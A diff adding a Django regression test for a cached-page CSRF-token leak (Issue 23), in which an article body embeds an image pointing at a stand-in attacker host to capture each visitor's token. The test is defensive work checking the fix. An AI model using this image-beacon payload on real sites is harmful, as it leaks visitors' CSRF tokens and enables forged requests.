@@ -1,5 +1,6 @@
 """Public pages: content, pinned query counts (no N+1), pagination, caching, valid HTML."""
 
+import re
 import shutil
 import subprocess
 from pathlib import Path
@@ -127,3 +128,18 @@ def test_pages_are_valid_html(many, client: Client, tmp_path: Path) -> None:
         timeout=120,
     )
     assert result.returncode == 0, result.stderr + result.stdout
+
+
+@pytest.mark.django_db
+def test_a_body_that_quotes_the_csrf_marker_gets_no_visitors_token(make_article, client: Client) -> None:
+    # Issue 23: the marker was replaced anywhere in the page, so an allowed image in a body
+    # received each visitor's CSRF token (staff included).
+    from config.cached_pages import CSRF_MARKER
+
+    article = make_article("مقال", f'<p>نص <img src="https://evil.example/p.gif?t={CSRF_MARKER}" alt=""></p>')
+    response = client.get(article.get_absolute_url())
+    html = response.content.decode()
+    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
+    assert token and token != CSRF_MARKER
+    evil = re.search(r'src="(https://evil\.example/[^"]*)"', html)
+    assert evil is not None and token not in evil.group(1)
